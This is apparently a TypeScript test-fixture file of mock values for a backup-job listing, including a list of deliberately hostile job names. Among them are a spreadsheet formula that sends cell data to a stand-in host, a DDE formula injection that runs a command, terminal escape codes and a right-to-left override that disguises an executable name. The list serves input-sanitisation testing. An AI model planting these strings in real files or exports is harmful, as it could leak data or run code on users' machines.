// Words the rows are made of. Domains are the documented ones; the texts are chosen to hurt whoever prints, stores or opens them carelessly.

/** Out of twenty rows: all eight states, `finish` most of the time. */
export const statuses = [
  ...Array.from({ length: 11 }, () => 'finish' as const),
  'running',
  'running',
  'stop',
  'stop',
  'schedule',
  'checking',
  'init',
  'check_pass',
  'pause',
] as const satisfies readonly Status[]

export type Status = 'checking' | 'init' | 'check_pass' | 'schedule' | 'running' | 'pause' | 'stop' | 'finish'

export const databases = ['MySQL', 'MySQL', 'PostgreSQL', 'MSSQL', 'Oracle', 'MariaDB', 'DRDS', 'MongoDB', 'Redis', 'PPAS'] as const

export const dataFormats = ['Native', 'SQL', 'CSV', 'JSON'] as const

/** Names that are not the usual `<backup set>-ManualFull`; of 24 rows each has one of these once. */
export const oddNames = [
  '订单库-每周备份',
  '財務資料庫 每日備份',
  '=HYPERLINK("http://example.invalid/?leak="&A1,"open")',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '＝1+1',
  'nightly \u001b[31mred\u001b[0m\u0007',
  'invoice \u202Egnp.exe',
  'Ünïcödé 𝄞 😀 e\u0301',
  '"quoted", <tag> & \'more\'; ]]>',
  '  leading and trailing  ',
  'two\nlines\tand a tab',
] as const

export const failures = [
  'java.lang.IndexOutOfBoundsException.',
  "java.sql.SQLException: Access denied for user 'backup'@'10.0.0.8' (using password: YES)",
  '备份集已过期',
  'No space left on device: /data/backup & "archive"',
] as const

export const directories = ['test', '/data/备份/每周', 'D:\\backup\\weekly', '/mnt/nas/a&b'] as const
